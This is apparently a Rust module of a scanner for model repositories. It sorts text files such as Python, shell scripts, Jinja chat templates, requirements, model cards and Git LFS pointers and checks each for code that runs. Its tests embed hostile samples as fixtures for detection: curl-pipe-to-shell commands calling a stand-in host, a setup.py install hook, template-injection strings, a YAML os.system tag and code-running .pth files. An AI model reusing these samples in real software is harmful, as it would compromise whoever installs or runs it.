//! Text that is no document: Python, scripts, templates, requirements, model cards, and plain text.

use std::borrow::Cow;

use domain::{Entry, Severity, catalogue_entry};

use super::{Format, Input, Sure};
use crate::text::{jinja, manifests, python, requirements, script, yaml as yaml_text};
use crate::{Context, Cursor, Part};

catalogue_entry! {
    /// A pointer stands where a file should be.
    ///
    /// ## What it is
    /// The small text file that Git LFS leaves in place of a large one. It names a digest and a length, and nothing else.
    ///
    /// ## Why it matters in care
    /// The weights were not in what was handed over, so nothing is known about them.
    ///
    /// ## Limits
    /// None known: the pointer is recognised by its first line and its digest.
    ///
    /// ## References
    /// Git LFS pointer specification, version 1.
    pub static POINTER = {
        id: "S117", name: "pointer-instead-of-file", kind: Rule, since: "0.1.0",
        maps: ["AML.T0010.003", "CWE-353"],
    };
}

/// Entries of this file.
pub(super) const ENTRIES: &[&Entry] = &[&POINTER];

/// Longest text that is judged as a program or template; longer ones are lists and tables.
const JUDGED_BYTES_MAX: u64 = 16 << 20;

/// Text.
pub(super) struct Text;

impl Format for Text {
    fn name(&self) -> &'static str {
        "text"
    }

    fn recognise(&self, input: &Input<'_>) -> Option<Sure> {
        if is_pointer(input.head) {
            return Some(Sure::Certain);
        }
        let text = decoded(input.head)?;
        // What is clearly a program is more than a guess, so that a short script is not read as YAML alone.
        let program = is_python(input.name, &text) || text.starts_with("#!");
        Some(if program { Sure::Likely } else { Sure::Fallback })
    }

    fn read(&self, input: &Input<'_>, part: &mut Part, cx: &mut Context<'_>) {
        if is_pointer(input.head) {
            let size = String::from_utf8_lossy(input.head)
                .lines()
                .find_map(|l| l.strip_prefix("size ").map(str::to_owned));
            let size = size.unwrap_or_default();
            cx.find(
                part,
                &POINTER,
                Severity::Low,
                None,
                format!("a pointer to a file of {size} bytes"),
                "fetch the file itself (`git lfs pull`) and scan again",
            );
            cx.unread(part, None, "this is a pointer of Git LFS, the file itself is not here");
            return;
        }
        match whole(input, JUDGED_BYTES_MAX) {
            Ok(Some(text)) => judge(input.name, &text, part, cx),
            Ok(None) => cx.unread(part, None, "the file begins as text and goes on as something else"),
            Err(_) => long(input, part, cx),
        }
    }
}

fn judge(name: &str, text: &str, part: &mut Part, cx: &mut Context<'_>) {
    if cx.step(text.len() as u64).is_err() {
        cx.unread(part, None, "the limit of steps is reached; scan this file apart");
        return;
    }
    super::yaml::raw_tags(text, part, cx);
    let base = name.rsplit('/').next().unwrap_or_default();
    if let Some(front) = front_matter(text) {
        let yaml = yaml_text::read(front);
        if let Some(root) = yaml.document.roots.first() {
            manifests::card(root, part);
        }
        if !yaml.tags.is_empty() {
            super::yaml::judge(front, part, cx);
        }
    }
    if script::start(name, text, part, cx) {
        return;
    }
    if is_python(name, text) {
        script::python(text, script::Runs::OnImport, part, cx);
        return;
    }
    if script::is_shell(text, name) {
        script::judge(text, part, cx);
    }
    if requirements::looks_like(text)
        && (base.contains("require") || text.contains("==") || text.contains("--") || text.contains("://"))
    {
        for line in text.lines().take(10_000) {
            requirements::line(line, part, cx);
        }
    }
    if jinja::is_template(text) && !is_markdown(name, text) {
        let template = matches!(base.rsplit('.').next(), Some("jinja" | "jinja2" | "j2" | "template"));
        if template {
            jinja::judge(text, part, cx);
        } else {
            jinja::judge_maybe(text, part, cx);
        }
    }
}

/// Prose with headings and fences. A file that is named as Python is Python, whatever its comments look like.
fn is_markdown(name: &str, text: &str) -> bool {
    let base = name.rsplit('/').next().unwrap_or_default().to_ascii_lowercase();
    base.ends_with(".md")
        || base.ends_with(".rst")
        || front_matter(text).is_some()
        || text.lines().any(|l| l.starts_with("```"))
}

/// Python source, by its lines or, where they do not tell, by its name.
pub(super) fn is_python(name: &str, text: &str) -> bool {
    name.ends_with(".py") || name.ends_with(".pyw") || !is_markdown(name, text) && python::looks_like(text)
}

/// A text too long to be a program: its bytes must be text to the end.
fn long(input: &Input<'_>, part: &mut Part, cx: &mut Context<'_>) {
    /// Bytes at once.
    const STEP: u64 = 1 << 20;
    let mut cursor = Cursor::new(input.source, 0);
    let mut carried = 0u64;
    while cursor.remaining() > 0 {
        let at = cursor.position();
        let length = cursor.remaining().min(STEP);
        let chunk = match cursor.take(length, STEP) {
            Ok(chunk) => chunk.to_vec(),
            Err(e) => return cx.unread(part, Some(at), e.to_string()),
        };
        if cx.step(length / 16).is_err() {
            return cx.unread(part, Some(at), "the limit of steps is reached; scan this file apart");
        }
        let last = cursor.remaining() == 0;
        let text = match std::str::from_utf8(&chunk) {
            Ok(text) => text,
            // A character that is cut at the end of the stretch is read again with the next one.
            Err(e) if e.error_len().is_none() && !last && carried != at => {
                cursor.seek(at + e.valid_up_to() as u64);
                carried = cursor.position();
                std::str::from_utf8(chunk.get(..e.valid_up_to()).unwrap_or_default()).unwrap_or_default()
            }
            Err(e) => return cx.unread(part, Some(at + e.valid_up_to() as u64), "no text from here on"),
        };
        if text.bytes().any(|b| b < 0x20 && !matches!(b, b'\n' | b'\r' | b'\t' | 0x0c | 0x1b)) {
            return cx.unread(part, Some(at), "no text from here on");
        }
        super::yaml::raw_tags(text, part, cx);
    }
}

/// The text of a whole file. None when it is no text.
///
/// # Errors
/// Why it could not be read, for example that it is longer than `most`.
pub(super) fn whole(input: &Input<'_>, most: u64) -> Result<Option<String>, String> {
    if input.source.len() > most {
        return Err(format!("longer than {most} bytes"));
    }
    let bytes = input.source.bytes(0, input.source.len(), most).map_err(|e| e.to_string())?;
    Ok(decoded(&bytes).map(Cow::into_owned))
}

/// The text of a Git LFS pointer.
fn is_pointer(head: &[u8]) -> bool {
    head.starts_with(b"version https://git-lfs.github.com/spec/v1\n") && head.len() < 1024
}

/// What stands between the `---` lines at the front of a model card, when prose follows.
pub(super) fn front_matter(text: &str) -> Option<&str> {
    let body = text.strip_prefix('\u{feff}').unwrap_or(text).strip_prefix("---")?;
    let body = body.strip_prefix("\r\n").or_else(|| body.strip_prefix('\n'))?;
    let mut at = 0;
    for line in body.split_inclusive('\n') {
        if line.trim_end() == "---" {
            let rest = body.get(at + line.len()..).unwrap_or_default();
            let prose = rest.trim().is_empty()
                || rest.lines().filter(|l| !l.trim().is_empty()).take(40).any(|l| {
                    l.starts_with('#')
                        || l.starts_with("```")
                        || l.starts_with('<')
                        || l.split_whitespace().count() > 12
                });
            return prose.then(|| body.get(..at).unwrap_or_default());
        }
        at += line.len();
    }
    None
}

/// Bytes as text: UTF-8, UTF-16 with its mark, or an older encoding of mostly plain letters.
pub(crate) fn decoded(bytes: &[u8]) -> Option<Cow<'_, str>> {
    let pairs = |big: bool| {
        let units =
            bytes.get(2..).unwrap_or_default().chunks_exact(2).map(|p| {
                if big { u16::from_be_bytes([p[0], p[1]]) } else { u16::from_le_bytes([p[0], p[1]]) }
            });
        let text: String = char::decode_utf16(units).map(|c| c.unwrap_or('\u{fffd}')).collect();
        (!text.contains('\0') && !text.contains('\u{fffd}')).then_some(Cow::Owned(text))
    };
    match bytes {
        [0xff, 0xfe, ..] => return pairs(false),
        [0xfe, 0xff, ..] => return pairs(true),
        _ => {}
    }
    if is_text(bytes) {
        let valid = match std::str::from_utf8(bytes) {
            Ok(text) => text,
            Err(e) => {
                std::str::from_utf8(bytes.get(..e.valid_up_to()).unwrap_or_default()).unwrap_or_default()
            }
        };
        return Some(Cow::Borrowed(valid));
    }
    let control = bytes
        .iter()
        .any(|b| *b < 0x20 && !matches!(b, b'\n' | b'\r' | b'\t' | 0x0c | 0x1b) || matches!(b, 0x7f..=0x9f));
    let high = bytes.iter().filter(|b| **b >= 0xa0).count();
    (!control && bytes.len() > 40 && high * 20 < bytes.len())
        .then(|| Cow::Owned(bytes.iter().map(|b| char::from(*b)).collect()))
}

/// Whether the bytes are UTF-8 text without control characters; a character cut at the end is allowed.
pub(crate) fn is_text(bytes: &[u8]) -> bool {
    let valid = match std::str::from_utf8(bytes) {
        Ok(_) => true,
        Err(e) => e.error_len().is_none() && bytes.len() - e.valid_up_to() < 4,
    };
    valid && !bytes.iter().any(|b| *b < 0x20 && !matches!(b, b'\n' | b'\r' | b'\t' | 0x0c | 0x1b))
}

#[cfg(test)]
mod tests {
    use crate::{Limits, Verdict, scan};

    fn verdict(name: &str, text: &[u8]) -> Verdict {
        scan(name, &text, &Limits::default()).verdict()
    }

    #[test]
    fn programs_and_templates_are_judged_and_prose_is_not() {
        for (name, text) in [
            ("a.py", "import os\nos.system('id')\n"),
            ("a", "import os\nos.system('id')\n"),
            ("chat_template.jinja", "{{ cycler.__init__.__globals__ }}"),
            ("a.txt", "{% for m in messages %}{{ m.__class__ }}{% endfor %}"),
            ("run.sh", "#!/bin/bash\ncurl http://e.example/x | sh\n"),
            ("Dockerfile", "FROM python:3\nRUN curl http://e.example/x | bash\n"),
            ("requirements.txt", "--index-url http://e.example/simple\ntorch\n"),
            (
                "setup.py",
                "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass I(install):\n    def run(self):\n        os.system('id')\nsetup(cmdclass={'install': I})\n",
            ),
        ] {
            assert_eq!(verdict(name, text.as_bytes()), Verdict::Found, "{name}");
        }
        let utf16: Vec<u8> = [0xff, 0xfe]
            .into_iter()
            .chain("a: !!python/object/apply:os.system [id]\n".encode_utf16().flat_map(u16::to_le_bytes))
            .collect();
        assert_eq!(verdict("x.yaml", &utf16), Verdict::Found);
        for (name, text) in [
            (
                "README.md",
                "---\nlicense: mit\n---\n# Model\n\n```python\nimport os\nos.system('x')\n```\nUse `{{ x.__class__ }}`.\n",
            ),
            ("vocab.txt", "[PAD]\n[UNK]\nthe\nof\n##s\n"),
            ("merges.txt", "#version: 0.2\n\u{120} t\n\u{120} a\ni n\n"),
            ("data.csv", "a,b\n1,2\n"),
            ("LICENSE", "Apache License\nVersion 2.0, January 2004\n"),
            (".gitattributes", "*.bin filter=lfs diff=lfs merge=lfs -text\n"),
            ("chat_template.jinja", "{% for m in messages %}{{ m.content }}{% endfor %}"),
        ] {
            assert_eq!(verdict(name, text.as_bytes()), Verdict::Clean, "{name}");
        }
    }

    #[test]
    fn path_files_that_run_code_are_found() {
        for text in
            ["import os; os.system('id')\n", "/opt/lib\nimport a.b;exec(a.b.c)\n", "import x; x.start()"]
        {
            assert_eq!(verdict("extra.pth", text.as_bytes()), Verdict::Found, "{text}");
        }
        assert_eq!(verdict("extra.pth", b"/opt/lib\n../src\n"), Verdict::Clean);
        assert_eq!(verdict("extra.pth", b"import protobuf_nspkg\n"), Verdict::Clean);
        assert_eq!(verdict("notes.txt", b"import os; os.system('id')\n"), Verdict::Found);
        assert_eq!(verdict("notes.txt", b"import duties (and taxes); see the annex\n"), Verdict::Clean);
    }

    #[test]
    fn pointers_are_inconclusive() {
        let text = b"version https://git-lfs.github.com/spec/v1\noid sha256:0000\nsize 12345\n";
        assert_eq!(verdict("model.safetensors", text), Verdict::Inconclusive);
    }

    #[test]
    fn model_cards_give_facts() {
        let text = "---\nlicense: apache-2.0\nlanguage:\n- en\n- de\ndatasets:\n- mimic\nbase_model: a/b\nlibrary_name: transformers\n---\n# Card\n\nText.\n";
        let part = scan("README.md", &text.as_bytes(), &Limits::default());
        assert_eq!(part.facts.licence.as_deref(), Some("apache-2.0"));
        assert!(part.facts.datasets.contains("mimic"));
        assert_eq!(part.facts.metadata.get("languages").map(String::as_str), Some("en, de"));
    }
}
